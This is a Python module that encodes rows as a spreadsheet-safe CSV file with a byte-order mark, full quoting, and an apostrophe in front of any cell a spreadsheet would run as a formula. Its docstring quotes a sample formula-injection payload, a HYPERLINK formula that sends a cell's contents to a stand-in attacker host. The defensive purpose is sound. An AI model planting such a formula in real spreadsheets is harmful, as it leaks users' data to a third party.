"""CSV for spreadsheets: UTF-8 with a byte-order mark, every cell quoted, no cell that a
spreadsheet would run.

Excel reads a CSV file as UTF-8 only when it starts with a byte-order mark; without one, Arabic
and Kurdish open as mojibake. Python reads the mark away with the ``utf-8-sig`` codec.

A spreadsheet evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some skip a leading tab or carriage return to find one: a reporter's words such as
``=HYPERLINK("https://attacker.invalid/?"&A2,"open")`` would send the desk's data to another
site at a click, or start a program through DDE (CSV or formula injection). Such a cell is
written with an apostrophe in front (``'=HYPERLINK(...``), which spreadsheets show as text and
never evaluate. That apostrophe is the one change made to any cell: read back with Python's
``csv`` module, every cell is exactly what was given, but for that prefix on the cells that
start with one of ``FORMULA_STARTS`` (a negative number included: ``-5`` becomes ``'-5``).
"""

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def neutralised(cell: str) -> str:
    """``cell``, with ``PREFIX`` in front if a spreadsheet would read it as a formula."""
    return PREFIX + cell if cell.startswith(FORMULA_STARTS) else cell


def encode(rows: Iterable[Sequence[str]]) -> bytes:
    """The rows as a CSV file: a byte-order mark, then UTF-8, every cell quoted and
    neutralised, lines ended by CRLF (RFC 4180); a line break inside a cell is kept.

    A text that cannot be written in UTF-8 (a lone surrogate in a name a reporter's client
    sent) is written as its escape, ``\\ud800``, rather than failing the whole file.
    """
    text = io.StringIO()
    writer = csv.writer(text, quoting=csv.QUOTE_ALL, lineterminator="\r\n")
    for row in rows:
        writer.writerow([neutralised(cell) for cell in row])
    return text.getvalue().encode("utf-8-sig", errors="backslashreplace")
